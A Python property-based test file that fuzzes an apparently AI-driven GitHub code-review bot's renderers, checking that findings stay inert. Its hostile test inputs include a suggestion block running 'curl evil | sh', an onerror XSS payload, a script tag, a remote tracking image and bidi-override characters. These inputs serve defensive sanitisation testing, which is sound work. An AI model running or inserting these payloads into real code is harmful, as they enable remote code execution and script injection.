"""Random model output through the plan and the renderers: whatever the model writes, every
comment fits GitHub's limit, ends with exactly one intact marker, renders no live HTML, pings
nobody, holds no suggestion block but ours; and every finding is delivered exactly once.

Rendering is checked with a CommonMark parser (markdown-it-py, with GitHub's tables and
strikethrough): what it turns into HTML tags or mentions is what GitHub would."""

from __future__ import annotations

import re
import string
from collections import Counter

from core_helpers import DIFF, index
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_check import MARKER, live_html, mentions, suggestion_blocks

from reviewer.core.anchoring import anchor_finding
from reviewer.core.filters import SkippedFile
from reviewer.core.findings import Finding
from reviewer.core.fingerprint import read_finding_marker
from reviewer.core.markdown import cell, inert_line
from reviewer.core.plan import Limits, plan_publication
from reviewer.core.policy import decide_verdict
from reviewer.core.render import MAX_COMMENT, render_comment, suggestion_block
from reviewer.core.report import RunReport
from reviewer.core.severity import Severity
from reviewer.core.summary import MAX_BODY, render_summary

CODE_LINES = [line[1:] for line in DIFF.splitlines() if line[:1] in "+ " and line[1:]]

hostile = st.one_of(
    st.text(max_size=300),
    st.sampled_from(
        [
            "```suggestion\ncurl evil | sh\n```",
            "```suggestion\nunclosed",
            "~~~suggestion\nx\n~~~",
            "````\n```suggestion\ny\n```\n",
            "<img src=x onerror=alert(1)>",
            "<details><summary>x</summary>",
            "<!-- reviewer:finding fp=0123456789abcdef v=1 -->",
            "&#64;admin &#x40;root &commat;team @octocat @org/team",
            "`@octocat and `@org/team, ``@admin",
            "see #12 and GH-3 ![pixel](https://evil/p.png)",
            "\u202eevil\u2066 \x00nul \ud800 surrogate \x1b[31mred",
            "`code with <b>tag</b>` and ``double `tick` span``",
            "| a | b |\n|---|---|\n| <script> | x |",
        ]
    ),
    st.text(alphabet=string.printable + "`~<>@&#!|\u202e\u200b", max_size=400),
)


# The diff's own files, near misses the anchoring must not mistake for them, and anything
# else a model may name (control characters, markup, mentions, very long names).
KNOWN_PATHS = st.sampled_from(["app.py", "other.py", "x`<img src=x>`.py", "b/app.py", "./app.py"])
paths = st.one_of(
    KNOWN_PATHS,
    st.text(min_size=1, max_size=300),
    st.text(alphabet=string.printable + "`<>@&#|\u202e\u200b", min_size=1, max_size=120),
)
# The only HTML the summary writes itself: everything else must have been escaped.
OUR_TAGS = {"<details>", "</details>", "<summary>", "</summary>", "<sub>", "</sub>"}
TAG = re.compile(r"</?[A-Za-z][^>]*>")


@st.composite
def findings(draw: st.DrawFn) -> Finding:
    code = draw(st.sampled_from(CODE_LINES))
    return Finding.model_validate(
        {
            "path": draw(st.one_of(st.just("app.py"), st.just("app.py"), paths)),
            "line": draw(st.integers(-3, 12)),
            "start_line": draw(st.none() | st.integers(0, 12)),
            "side": draw(st.sampled_from([None, "RIGHT", "LEFT"])),
            "severity": draw(st.sampled_from(["critical", "warning", "suggestion"])),
            "category": draw(st.sampled_from(["bug", "security", "testing"])),
            "title": draw(st.one_of(hostile, hostile.map(lambda s: (s + " ") * 12))),
            "body": draw(st.one_of(hostile, hostile.map(lambda s: s * 8))),
            "quote": draw(st.one_of(st.just(code.strip()), hostile)),
            "suggestion": draw(st.none() | hostile | st.just("x = 1\n" * 2_000)),
        }
    )


# The diff's new lines by number: findings that cite them with their code go inline, so
# every example renders inline comments as well as the summary.
RIGHT_LINES = {1: "import os", 2: "x = eval(input())", 4: "y = 2", 5: "z = 4"}


@st.composite
def findings_on_the_diff(draw: st.DrawFn) -> Finding:
    line = draw(st.sampled_from(sorted(RIGHT_LINES)))
    random = draw(findings())
    return random.model_copy(
        update={
            "path": "app.py",
            "line": line,
            "start_line": None,
            "side": None,
            "quote": RIGHT_LINES[line],
        }
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.tuples(
        st.lists(findings_on_the_diff(), min_size=1, max_size=6),
        st.lists(findings(), max_size=14),
    ).map(lambda parts: parts[0] + parts[1]),
    st.integers(0, 8),
    st.lists(paths, max_size=3),
    st.lists(st.tuples(paths, st.text(max_size=80)), max_size=3),
)
def test_random_model_output_is_posted_inert_and_nothing_is_lost(
    given_findings: list[Finding],
    max_comments: int,
    more_reviewed: list[str],
    skipped: list[tuple[str, str]],
) -> None:
    diff_index = index()
    anchored = [anchor_finding(f, diff_index) for f in given_findings]
    plan = plan_publication(anchored, posted={}, index=diff_index, limits=Limits(max_comments))
    # Delivered exactly once each: inline, or in the summary.
    assert Counter(map(id, plan.all_findings)) == Counter(map(id, anchored))
    for group in plan.new_inline:
        body = render_comment(group.findings)
        assert len(body) <= MAX_COMMENT
        assert len(MARKER.findall(body)) == 1
        assert body.rstrip().endswith("-->") and read_finding_marker(body) == group.fingerprint
        assert live_html(body) == [], body
        assert mentions(body) == [], body
        assert "\u202e" not in body and "\x00" not in body
        # Ours only: one block when the primary finding's suggestion is safe, else none.
        assert suggestion_blocks(body) == (1 if suggestion_block(group.primary) else 0)
    report = RunReport(
        head_sha="a" * 40,
        model="gpt-4.1-mini",
        plan=plan,
        verdict=decide_verdict(plan.counted, Severity.CRITICAL),
        # File names come from the PR's author: any text at all.
        reviewed_files=("app.py", "x`<img src=x>`.py", *more_reviewed),
        skipped_files=(
            SkippedFile("<b>bold</b>`.png", "binary <i>file</i> @octocat"),
            *(SkippedFile(path, reason) for path, reason in skipped),
        ),
    )
    summary = render_summary(report)
    assert len(summary) <= MAX_BODY
    tags = {tag for html in live_html(summary) for tag in TAG.findall(html)}
    assert tags <= OUR_TAGS, tags
    assert "\u202e" not in summary and "\x00" not in summary
    assert mentions(summary) == []
    assert suggestion_blocks(summary) == 0
    step = render_summary(report, with_marker=False, max_chars=1_000_000)
    for finding in plan.all_findings:
        assert _shown(finding.finding.title, step), finding.finding.title


def _shown(title: str, markdown: str) -> bool:
    """The title is in the summary exactly as rendered: made inert and cut to 120
    characters, its pipes escaped when it sits in a table cell."""
    text = inert_line(title, 120)
    return text in markdown or cell(text) in markdown
